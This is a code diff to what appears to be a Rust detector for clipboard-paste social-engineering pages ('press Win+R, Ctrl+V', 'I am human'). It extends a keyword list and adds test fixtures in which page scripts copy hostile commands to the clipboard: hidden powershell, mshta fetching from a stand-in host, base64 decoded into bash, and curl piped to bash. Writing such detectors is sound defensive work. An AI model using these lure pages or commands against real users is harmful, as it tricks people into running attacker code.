@@ -41,11 +41,25 @@ const TELLING: &[&str] = &[
     "win+x",
     "ctrl+v",
     "control+v",
+    "strg+v",
+    "windows-taste+r",
+    "windowstaste+r",
+    "touchewindows+r",
+    "teclawindows+r",
+    "tastowindows+r",
+    "command+v",
+    "cmd+v",
+    "⌘v",
+    "⌘+v",
+    "ctrl+l",
+    "openfileexplorer",
     "ファイル名を指定して実行",
     "rundialog",
     "runwindow",
     "notarobot",
     "youarehuman",
+    "iamhuman",
+    "i'mhuman",
     "youarenotarobot",
     "ロボットではありません",
     "人間であること",
@@ -75,6 +89,8 @@ mod tests {
         for page in [
             "<html><p>Press Win + R, then Ctrl + V</p><script>navigator.clipboard.writeText('powershell -w hidden -c x');</script>",
             "<html><p>1. ファイル名を指定して実行 を開く</p><script>t.value='mshta https://a.example/x';t.select();document.execCommand('copy');</script>",
+            "<html><p>⌘ + V in Terminal: I am human</p><script>navigator.clipboard.writeText('echo eA== | base64 -d | bash');</script>",
+            "<html><p>Open File Explorer, press CTRL + L</p><script>navigator.clipboard.writeText('powershell -c x     # C:\\\\a.docx');</script>",
             "<html><p>check</p><script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgeA=='));</script>",
             "<html><p>check</p><script>var c=['mshta',' https',':','//a.exam','ple/x'].join('');navigator.clipboard.writeText(c);</script>",
         ] {
@@ -88,6 +104,7 @@ mod tests {
             "<html><p>Install</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/install.sh');</script>",
             "<html><p>Press Ctrl+V to paste.</p><script>navigator.clipboard.writeText(b.innerText);</script>",
             "<html><p>Press Win + R and type powershell.</p>",
+            "<html><p>Open Terminal and paste</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/i.sh | bash');</script>",
         ] {
             assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
         }
